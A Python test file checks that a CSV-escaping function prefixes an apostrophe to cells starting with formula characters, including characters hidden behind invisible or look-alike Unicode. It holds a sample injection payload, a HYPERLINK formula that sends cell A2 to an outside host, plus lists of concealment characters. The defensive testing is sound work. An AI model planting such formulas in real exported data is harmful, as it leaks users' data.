"""A CSV cell of the open data that a spreadsheet could read as a formula starts with an apostrophe, however the
formula character is hidden or written (macros/escaping.py, csv_cell: the rule is written there).

OWASP's advice on CSV injection names = + - @, tab and carriage return. A reviewer reading the data, and some
spreadsheets, do not see what comes before the first visible character (spaces, controls, zero-width and other
format characters, a byte-order mark), and full-width and other forms of the four characters look the same."""

from __future__ import annotations

import csv
import io
import sys
import unicodedata

import pytest

from macros import escaping

FORMULA = "=+-@"
# Each way of writing one of the four: ASCII, full-width, small, superscript, subscript, and the minus sign.
FORMS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "⁼", "⁺", "⁻", "₌", "₊", "₋", "\u2212"]
# What can come first without being seen.
HIDDEN = ["", " ", "   ", "\t", "\n", "\r\n", "\xa0", "\u3000", "\u2003", "\x00", "\x01", "\x1f", "\x7f", "\x80",
          "\x85", "\x9f",
          "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u200e", "\u200f", "\u202a", "\u202e", "\u2066",
          "\u2069", "\u034f", "\u0301", "\ufe0f", "\U000e0001", "\u3164", "\u115f", "\ufeff\u200b \x00\u202e"]
PAYLOAD = 'HYPERLINK("https://e.org/?leak="&A2,"Click")'


@pytest.mark.parametrize("hidden", HIDDEN, ids=lambda h: "+".join(f"U+{ord(c):04X}" for c in h) or "nothing")
@pytest.mark.parametrize("form", FORMS, ids=lambda f: f"U+{ord(f):04X}")
def test_a_formula_character_after_anything_hidden_gets_an_apostrophe(hidden, form):
    value = hidden + form + PAYLOAD
    assert escaping.csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", [
    "Housing in Coventry", "E", "2014 to 2015", "", "   ", "\u200b", "a=b", "x-y", "– an en dash", "— an em dash",
    "‐ a hyphen", "'already quoted", "\"=quoted\"", "(=)", "Ｗide", "é=1", "\u0301é=1",
])
def test_text_that_starts_with_something_visible_is_left_as_it_is(value):
    assert escaping.csv_cell(value) == value


@pytest.mark.parametrize("value", [21, None, 2.5])
def test_numbers_and_nothing_are_left_as_they_are(value):
    assert escaping.csv_cell(value) == value


def test_every_character_that_folds_to_a_formula_character_is_caught():
    """Over all of Unicode: what NFKC turns into = + - @ or the minus sign counts as that character."""
    for code in range(sys.maxunicode + 1):
        c = chr(code)
        if 0xD800 <= code <= 0xDFFF:
            continue
        if unicodedata.normalize("NFKC", c) in (*FORMULA, "\u2212"):
            assert escaping.csv_cell(c + "1+1") == "'" + c + "1+1", f"U+{code:04X}"


def test_a_tab_or_carriage_return_first_gets_an_apostrophe_whatever_follows():
    for start in ("\t", "\r"):
        assert escaping.csv_cell(start + "text") == "'" + start + "text"


def test_the_cell_reads_back_from_the_file_with_its_apostrophe():
    buffer = io.StringIO()
    cells = [escaping.csv_cell(hidden + form + PAYLOAD) for hidden in HIDDEN for form in FORMS]
    csv.writer(buffer).writerow(cells)
    [row] = csv.reader(io.StringIO(buffer.getvalue(), newline=""))
    assert row == cells and all(cell.startswith("'") for cell in row)
